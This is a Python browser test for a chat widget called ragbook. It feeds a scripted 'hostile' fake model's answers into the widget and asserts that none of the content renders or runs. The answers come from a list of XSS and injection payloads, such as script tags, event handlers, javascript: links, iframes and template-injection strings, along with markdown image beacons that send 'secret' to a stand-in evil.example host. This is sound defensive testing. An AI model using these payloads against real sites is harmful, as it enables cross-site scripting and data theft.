"""A hundred answers of a hostile model, through the whole of ragbook, under a policy that allows
nothing else: no dialog, no request to anybody, no break of the policy."""

from __future__ import annotations

import asyncio
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page

from benchmarks.fake_model import FakeModel
from benchmarks.servers import Server, manage, serving
from tests.browser.conftest import PATIENCE_MS, Noise
from tests.browser.strict_site import strict_site, violations, visit

pytestmark = [pytest.mark.browser, pytest.mark.server, pytest.mark.timeout(240)]

EVIL = "https://evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img srcset="{EVIL}/p.png 1x"><picture><source srcset="{EVIL}/p.png"></picture>',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    "<a href='javascript:alert(1)'>click</a>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/x.css)</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    f"<form action='{EVIL}'><input autofocus onfocus=alert(1)></form>",
    "</textarea></template></style><script>alert(1)</script><!--",
    f"![pixel]({EVIL}/pixel.png?q=secret)",
    f"![pixel][ref]\n\n[ref]: {EVIL}/pixel.png",
    f"[click](javascript:alert(1)) and [here]({EVIL}) and <{EVIL}>",
    f"{EVIL}/bare?q=secret and www.evil.example and mailto:a@evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    r"$\href{javascript:alert(1)}{x_1}$ $$\text{<b onclick=alert(1)>} \style{color:red}{y}$$",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "\u202eright to left override\u202c \u2066isolate\u2069 \u200fmark\u200f",
    "e\u0301\u0301\u0301" * 60 + " " + "👩‍👩‍👧‍👦" * 30,
    "unfinished **bold `code [link](",
    "```html\n<script>alert(1)</script>",
    "| a | b |\n|---|---|\n" + "| <b onclick=alert(1)>x</b> | y |\n" * 30,
    "| " + " | ".join("wide" for _ in range(60)) + " |\n" + "|---" * 60 + "|\n",
    "\x00\x1b[31m%00\x7f\u200b\ufeff\u2028\u2029 [1] [[2]] 【3†source】 <cite>4</cite>",
    "A" * 5_000 + " " + "<" * 500 + " " + "*_`~" * 200,
]
WRAPPINGS = [
    "Nodes exchange data. {} A node is a process.\n",
    "1. First.\n   - {}\n     - {}\n",
    "> {}\n\n# {}\n",
    "A node publishes `{}` and **{}**",
]
ANSWERS = [wrapping.replace("{}", payload) for payload in PAYLOADS for wrapping in WRAPPINGS]

QUESTION = "What is a node?"

# Asks for one answer after another, a new conversation every few, and tells of each how it ended,
# how many sentences it showed, and whether anything stands in them that no answer may hold.
ASK_ALL = """({ question, count, turns }) => new Promise((resolve) => {
  const root = () => document.querySelector("ragbook-widget").shadowRoot;
  const forbidden =
    "script, img, picture, iframe, object, embed, link, style, form, base, a, svg:not(.icon)";
  const seen = [];
  ragbook.on("answer", ({ outcome, shown }) => {
    const bodies = root().querySelectorAll(".turn:last-child .body");
    const made = [...bodies].flatMap((body) => [...body.querySelectorAll(forbidden)]);
    const words = [...bodies].map((body) => body.textContent).join("");
    seen.push({ outcome, shown, made: made.map(({ localName }) => localName), words });
    if (seen.length === count) return resolve(seen);
    if (seen.length % turns === 0) root().querySelector("[aria-label='New conversation']").click();
    setTimeout(() => ragbook.ask(question));
  });
  ragbook.ask(question);
})"""


@contextmanager
def hostile_model() -> Iterator[FakeModel]:
    """A model server in a thread of its own that gives one of the answers a call."""
    loop, model = asyncio.new_event_loop(), FakeModel(mode="script", script=ANSWERS)
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    asyncio.run_coroutine_threadsafe(model.__aenter__(), loop).result()
    try:
        yield model
    finally:
        asyncio.run_coroutine_threadsafe(model.__aexit__(), loop).result()
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()


@pytest.fixture(scope="module")
def server(primer_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """It shows every sentence, whatever the judge says."""
    with hostile_model() as model:
        variables = {
            "OPENAI_API_KEY": "test",
            "OPENAI_BASE_URL": model.base_url,
            "RAGBOOK_MODEL": "fake",
        }
        folder = tmp_path_factory.mktemp("hostile")
        with serving(primer_home, folder, "uvicorn", 0, **variables) as server:
            annotate = "from retrieval.models import Book; Book.objects.update(mode='annotate')"
            manage(server.environment, "shell", "--no-imports", "-c", annotate)
            yield server


@contextmanager
def strict_page(
    context: BrowserContext, server: Server, connect: str, options: str
) -> Iterator[Page]:
    """A page with the widget. No dialog may open, no script fail, no policy be broken."""
    with strict_site(server.http, connect, options) as site:
        page, noise = context.new_page(), Noise()
        page.set_default_timeout(PATIENCE_MS)
        noise.watch(page, server.http.rsplit(":", 1)[-1], site.strip("/").rsplit(":", 1)[-1])
        visit(page, site)
        yield page
        assert violations(page) == []
        assert noise == Noise()


@pytest.mark.parametrize(
    ("connect", "options"),
    [("HOST ws://HOST", ""), ("HOST", 'data-transport="events"')],
    ids=["sockets", "events"],
)
def test_a_hundred_hostile_answers_do_nothing(
    context: BrowserContext, server: Server, connect: str, options: str
) -> None:
    """Fifty by socket, and fifty by server-sent events, for which the policy names HOST alone."""
    asked = {"question": QUESTION, "count": len(ANSWERS) // 2, "turns": len(WRAPPINGS)}
    with strict_page(context, server, connect, options) as page:
        seen = page.evaluate(ASK_ALL, asked)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    outcomes = Counter(answer["outcome"] for answer in seen)
    assert set(outcomes) <= {"answered", "quoted", "refused"}
    assert outcomes["answered"] > 40
    assert sum(answer["shown"] for answer in seen) > len(seen)
    assert [answer for answer in seen if answer["made"]] == []
    assert any("alert(1)" in answer["words"] for answer in seen)
